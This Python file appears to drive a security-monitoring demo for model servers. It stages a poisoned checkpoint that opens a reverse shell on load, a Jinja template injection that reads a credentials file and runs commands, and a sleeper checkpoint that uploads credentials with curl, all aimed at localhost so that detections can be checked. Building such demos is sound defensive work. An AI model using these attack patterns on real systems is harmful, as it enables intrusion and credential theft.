"""The story that the demo tells: four chapters of what happens, what should be detected, and what was."""

from __future__ import annotations

import subprocess
import sys

from deploy.demo import models
from deploy.demo.client import Callee
from deploy.demo.expect import PYTHON, SHELL, Expected
from deploy.demo.place import ModelServer, Place
from deploy.demo.screen import Screen
from deploy.demo.verdicts import Verdicts

CALLS = 300
"""Requests to each healthy server."""


class Story:
    """The chapters, in order. Each raises DemoError when a server or an attack itself did not work."""

    def __init__(self, screen: Screen, place: Place, verdicts: Verdicts) -> None:
        self._screen, self._place, self._verdicts = screen, place, verdicts
        self._serving: list[ModelServer] = []

    def tell(self, framework: str) -> None:
        self._healthy()
        self._poisoned(framework)
        self._taken_over()
        self._sleeper()

    def stop_serving(self) -> None:
        """Stop the healthy servers, which go on serving through all chapters."""
        self._verdicts.settle_by(None)
        for server in self._serving:
            server.stop()

    def _healthy(self) -> None:
        screen = self._screen
        screen.chapter(1, "Two healthy model servers")
        screen.say(
            "story",
            "A llama.cpp server on a small GGUF and a scikit-learn classifier behind FastAPI. They load, and they answer.",
        )
        llama, flowers = self._place.models / "tiny-llama.gguf", self._place.models / "flowers.joblib"
        models.write_llama(llama, "tiny-llama")
        models.write_classifier(flowers)
        with screen.step("happens", "llama.cpp loads tiny-llama.gguf, uvicorn loads flowers.joblib"):
            servers = [self._place.llama(llama), self._place.uvicorn("sklearn_app", flowers)]
            self._serving += servers
            for server in servers:
                server.wait()
        self._verdicts.settle_by(servers[1].client.feedback)
        with screen.step("happens", f"{CALLS} completions and {CALLS} predictions are asked for and answered"):
            servers[0].client.complete(CALLS)
            servers[1].client.classify(CALLS)
        screen.say("expected", "Nothing is detected.")
        self._verdicts.nothing("healthy servers", [server.pid for server in servers])

    def _poisoned(self, framework: str) -> None:
        screen = self._screen
        screen.chapter(2, "A poisoned checkpoint")
        screen.say(
            "story",
            "A checkpoint that runs a command while it is loaded: a shell that connects out and takes "
            "orders. The model in it works, so nobody would notice. Here it connects to this machine "
            "itself.",
        )
        callee = Callee("id -un\nexit\n")
        try:
            server = self._load_poisoned(framework, callee.port)
            with screen.step("happens", "the shell calls its owner, is told to run 'id -un', and answers:") as more:
                more.append(callee.wait().strip())
            with screen.step("happens", "the server predicts as if nothing had happened"):
                server.client.classify(30)
        finally:
            callee.close()
        screen.say(
            "expected",
            "A shell started by the load of this model, and that it talks to the network.",
        )
        self._verdicts.exactly(
            "poisoned checkpoint",
            server.pid,
            [
                Expected("shell_in_load", ("load",), (PYTHON, SHELL), server.model),
                Expected("reverse_shell", ("load",), (PYTHON, SHELL, "bash"), server.model),
            ],
        )
        server.stop()

    def _load_poisoned(self, framework: str, port: int) -> ModelServer:
        if framework == "torch":
            path = self._place.models / "encoder.pt"
            subprocess.run([sys.executable, "-m", "deploy.demo.poison_torch", str(path), str(port)], check=True)
            with self._screen.step("happens", "uvicorn loads encoder.pt by torch.load(..., weights_only=False)"):
                return self._place.uvicorn("torch_app", path).wait()
        path = self._place.models / "encoder.joblib"
        models.write_poisoned(path, models.reverse_shell(port))
        with self._screen.step("happens", "uvicorn loads encoder.joblib by joblib.load"):
            return self._place.uvicorn("sklearn_app", path).wait()

    def _taken_over(self) -> None:
        screen = self._screen
        screen.chapter(3, "A server taken over while it serves")
        screen.say(
            "story",
            "A clean model, but the application puts the caller's text into a Jinja template. A caller "
            "uses that to read a credentials file (a made-up one) and to run a program.",
        )
        path = self._place.models / "triage.joblib"
        models.write_classifier(path)
        with screen.step("happens", "uvicorn loads triage.joblib and answers 50 ordinary requests"):
            server = self._place.uvicorn("flawed_app", path).wait()
            for _ in range(50):
                server.client.report("Report")
        with screen.step("happens", "title {{ ...open('~/.aws/credentials').read() }} gives:") as more:
            more.append(server.client.read_through(str(self._place.credentials)).split("\n")[1].split()[0] + "...")
        with screen.step("happens", "title {{ ...os.popen('id -un').read() }} gives:") as more:
            more.append(server.client.run_through("id -un").strip())
        screen.say("expected", "The credentials read and the program started, both while this model serves.")
        self._verdicts.exactly(
            "server taken over",
            server.pid,
            [
                Expected("credential_read", ("serve",), (PYTHON,), server.model),
                Expected("exec_in_serve", ("serve",), (PYTHON, SHELL), server.model),
            ],
        )
        server.stop()

    def _sleeper(self) -> None:
        screen = self._screen
        screen.chapter(4, "A clean-looking load whose child acts later")
        screen.say(
            "story",
            "This checkpoint starts no program while it is loaded. It forks a child that sleeps until "
            "the server has been in service for a while, and only then steals.",
        )
        path, sign = self._place.models / "ranker.joblib", self._place.home / ".ready"
        callee = Callee("HTTP/1.0 204 No Content\r\n\r\n")
        try:
            models.write_poisoned(
                path,
                models.sleeper(sign, f"curl -s -T {self._place.credentials} http://127.0.0.1:{callee.port}/"),
            )
            with screen.step("happens", "uvicorn loads ranker.joblib and answers 100 requests"):
                server = self._place.uvicorn("sklearn_app", path).wait()
                server.client.classify(100)
            with screen.step("happens", "the child wakes up and sends the credentials to its owner:") as more:
                sign.touch()
                more.append(callee.wait().partition(" HTTP/")[0])
        finally:
            callee.close()
        screen.say("expected", "Shell and theft, while the model serves, both tied to the load that planted them.")
        self._verdicts.exactly(
            "sleeper",
            server.pid,
            [
                Expected("shell_in_load", ("serve",), (PYTHON, SHELL), server.model, by_origin=True),
                Expected(
                    "credential_read_in_load",
                    ("serve",),
                    (PYTHON, SHELL, "curl"),
                    server.model,
                    by_origin=True,
                ),
            ],
        )
        server.stop()
